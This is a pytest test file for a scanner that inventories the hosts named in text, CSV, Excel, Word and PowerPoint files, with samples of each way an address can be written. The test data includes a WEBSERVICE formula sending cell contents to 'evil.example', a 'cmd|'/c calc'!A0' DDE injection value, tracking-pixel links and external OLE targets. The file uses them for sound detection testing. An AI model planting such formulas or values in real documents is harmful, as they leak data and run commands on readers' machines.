"""Which hosts a file names, and how much of what it holds: whatever way an address is written."""

from __future__ import annotations

import zipfile
from pathlib import Path
from typing import Any

import pytest
from docx import Document as WordDocument
from openpyxl import Workbook
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName

from backshop.formats import FormatError, Formats, inventory

from .office import a_document_and_a_deck, paragraph, source, with_body

OUTSIDE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def hosts(path: Path, kind: str) -> set[tuple[str, str]]:
    found: Any = inventory.get_inventory(source(path), kind)
    return {(host, way) for host, way, _ in found["hosts"]}


def added(path: Path, name: str, content: str) -> Path:
    """Put a member into a package."""
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, content)
    return path


@pytest.mark.rule("F29.10")
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See https://Evil.Example/x?y=1.", {("evil.example", "text")}),
        ("http://user:pass@evil.example:8080/", {("evil.example", "text")}),
        ("http://ok.example@evil.example/", {("evil.example", "text")}),
        (r'{"a": "https:\/\/evil.example\/x"}', {("evil.example", "text")}),
        (r"http:\\evil.example\x", {("evil.example", "text")}),
        ("[click](https://evil.example)", {("evil.example", "link")}),
        ("![](https://evil.example/p.png?d=1)", {("evil.example", "fetched")}),
        ("<img src='//evil.example/p.png'>", {("evil.example", "fetched")}),
        ("<a href=https://evil.example>", {("evil.example", "link")}),
        ("a { background: url(https://evil.example/x) }", {("evil.example", "fetched")}),
        ("mailto:a@evil.example?body=x", {("evil.example", "link")}),
        ("go to www.evil.example now", {("www.evil.example", "text")}),
        (r"open \\evil.example\share\x", {("evil.example", "text")}),
        ("http://[2001:db8::1]/x", {("2001:db8::1", "text")}),
        ("https://ｅｖｉｌ.example", {("evil.example", "text")}),
        ("https://бanк.example/", {("бanк.example", "text")}),
        ('<svg xmlns="http://www.w3.org/2000/svg"/>', set()),
        ("file:///etc/passwd and C:\\\\Users\\\\x", set()),
        (r"\\alpha\beta // a comment, 3 // 4", set()),
        ("https://{host}/x, e.g. notes.md", set()),
    ],
)
def test_an_address_names_its_host_however_it_is_written(text, expected):
    assert set(inventory.in_text(text)) == expected


@pytest.mark.rule("F29.10")
@pytest.mark.parametrize(
    ("formula", "expected"),
    [
        ('WEBSERVICE("https://evil.example/?"&A1)', {("evil.example", "fetched")}),
        ('_xlfn.WEBSERVICE(A1&"/x")', {("", "fetched")}),
        ('HYPERLINK("https://evil.example","x")', {("evil.example", "link")}),
        ("cmd|'/c calc'!A0", {("", "fetched")}),
        ("SUM(A1:A3)", set()),
        ('IF(A1="WEBSERVICE(","a|b!","")', set()),
    ],
)
def test_a_formula_that_fetches_is_told_even_where_it_hides_its_host(formula, expected):
    assert set(inventory.in_formula(formula)) == expected


@pytest.mark.rule("F29.10")
def test_cells_of_a_delimited_file_are_read_as_a_spreadsheet_would(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("a,b\n1,\"=WEBSERVICE(A1)\"\n2,=cmd|'/c calc'!A0\n3,call (me) | you!\n")

    found: Any = inventory.get_inventory(source(path), "csv")

    assert found["hosts"] == [["", "fetched", 2]]
    assert found["units"] == {"line": 4}


def book(path: Path) -> Path:
    made = Workbook()
    first = made.active
    assert first is not None
    first.title = "First"
    first.append(["a", "see https://cell.example/x", 3])
    first["A3"] = '=HYPERLINK("https://formula.example","x")'
    first["B3"].hyperlink = "https://clicked.example/"
    first["A1"].comment = Comment("go to https://comment.example", "me")
    made.create_sheet("Second")["A1"] = 1
    name = DefinedName("out", attr_text='"https://name.example"')
    made.defined_names["out"] = name
    made.properties.title = "https://title.example"
    made.save(path)
    return path


@pytest.mark.rule("F29.10")
def test_a_workbook_names_hosts_in_cells_formulas_links_comments_names_and_properties(tmp_path):
    path = book(tmp_path / "a.xlsx")

    found: Any = inventory.get_inventory(source(path), "xlsx")

    assert hosts(path, "xlsx") >= {
        ("cell.example", "text"),
        ("formula.example", "link"),
        ("clicked.example", "link"),
        ("comment.example", "text"),
        ("name.example", "text"),
        ("title.example", "text"),
    }
    assert all(host.endswith(".example") for host, *_ in found["hosts"])
    assert (found["units"]["cell"], found["units"]["comment"], found["units"]["name"]) == (6, 1, 1)
    assert found["named"] == [["sheet", "1", "First"], ["sheet", "2", "Second"]]


@pytest.mark.rule("F29.10")
def test_a_large_sheet_is_looked_into_where_it_may_name_a_host(tmp_path):
    made = Workbook()
    sheet = made.active
    assert sheet is not None
    for row in range(3000):
        sheet.append([row, row + 1, row + 2, row + 3])
    plain, other = tmp_path / "plain.xlsx", tmp_path / "other.xlsx"
    made.save(plain)
    sheet["Z9"] = "=_xlfn.WEBSERVICE(A1)"
    made.save(other)

    found: Any = inventory.get_inventory(source(plain), "xlsx")

    assert (found["hosts"], found["units"]["cell"]) == ([], 12_000)
    assert hosts(other, "xlsx") == {("", "fetched")}


@pytest.mark.rule("F29.10")
def test_relationships_that_lead_outside_are_told_by_what_programs_do_with_them(tmp_path):
    path = book(tmp_path / "a.xlsx")
    lines = "".join(
        f'<Relationship Id="r{at}" Type="{OUTSIDE}{kind}" Target="{target}" TargetMode="{mode}"/>'
        for at, (kind, target, mode) in enumerate(
            [
                ("externalLinkPath", "https://book.example/b.xlsx", "External"),
                ("image", "file://share.example/p.png", "External"),
                ("oleObject", r"\\server\share\x", "External"),
                ("externalLinkPath", "Other.xlsx", "External"),
                ("image", "../media/image1.png", "Internal"),
            ]
        )
    )
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    added(
        path,
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        f'<Relationships xmlns="{namespace}">{lines}</Relationships>',
    )

    assert hosts(path, "xlsx") >= {
        ("book.example", "fetched"),
        ("share.example", "fetched"),
        ("server", "fetched"),
    }


@pytest.mark.rule("F29.10")
def test_an_address_in_several_runs_or_in_a_field_is_still_one(tmp_path):
    field = (
        '<w:p><w:r><w:instrText>INCLUDEPICTURE "https://field.</w:instrText></w:r>'
        "<w:r><w:instrText>example/p.png</w:instrText></w:r></w:p>"
    )
    simple = '<w:p><w:fldSimple w:instr="HYPERLINK &quot;https://simple.example&quot;"/></w:p>'
    body = paragraph("see ht", "tps:/", "/split.exa", "mple/x") + paragraph("fine") + field + simple
    path = with_body(tmp_path / "a.docx", body)

    assert hosts(path, "docx") == {
        ("split.example", "text"),
        ("field.example", "fetched"),
        ("simple.example", "link"),
    }


@pytest.mark.rule("F29.10")
def test_documents_and_decks_are_counted(tmp_path):
    made = a_document_and_a_deck(tmp_path)

    found: dict[str, Any] = {
        kind: inventory.get_inventory(source(path), kind) for kind, path in made.items()
    }

    assert found["docx"]["units"]["table"] == 1
    assert found["docx"]["units"]["paragraph"] >= 2
    assert [one[0] for one in found["pptx"]["named"]] == ["slide"] * len(found["pptx"]["named"])
    assert found["pptx"]["units"]["paragraph"] >= 1


@pytest.mark.rule("F29.10", "F2.7")
@pytest.mark.timeout(30, method="signal")  # a search lets no thread in
@pytest.mark.parametrize("sign", ["<row ", "<row a='<col ", "<c ", "<row hidden='1' "])
def test_signs_that_begin_a_tag_and_never_end_it_cost_no_more_than_their_length(tmp_path, sign):
    rest = f"<extLst><ext uri='x'><![CDATA[{sign * 100_000}<]]></ext></extLst></worksheet>"
    path = tmp_path / "b.xlsx"
    with (
        zipfile.ZipFile(book(tmp_path / "a.xlsx")) as given,
        zipfile.ZipFile(path, "w") as made,
    ):
        for name in given.namelist():
            data = given.read(name)
            if name.endswith("sheet1.xml"):
                data = data.replace(b"</worksheet>", rest.encode())
            made.writestr(name, data)

    found: Any = inventory.get_inventory(source(path), "xlsx")

    assert "hidden row" not in found["units"]
    assert Formats().get_map(source(path))["sheets"]


@pytest.mark.rule("F29.10", "F5.11")
def test_a_content_is_looked_into_once_and_other_kinds_not_at_all(tmp_path, monkeypatch):
    path = tmp_path / "a.docx"
    document = WordDocument()
    document.add_paragraph("https://evil.example")
    document.save(str(path))
    picture = tmp_path / "a.png"
    picture.write_bytes(b"\x89PNG\r\n\x1a\n")
    with Formats(workers=1, cache=tmp_path / "cache") as formats:
        first = formats.get_inventory(formats.source(path))
        monkeypatch.setattr(formats._do, "map_call", lambda *_: pytest.fail("looked into again"))

        again = formats.get_inventory(formats.source(path))
        nothing = formats.get_inventory(None)
        with pytest.raises(FormatError) as caught:
            formats.get_inventory(formats.source(tmp_path / "gone.docx", sha256="0" * 64))

    assert first["hosts"] == again["hosts"] == [["evil.example", "text", 1]]
    assert (nothing["hosts"], nothing["units"], nothing["named"]) == ((), {}, ())
    assert caught.value.reason == "not_found"
    with pytest.raises(FormatError) as refused:
        inventory.get_inventory(source(picture), "image")
    assert refused.value.reason == "unsupported_format"
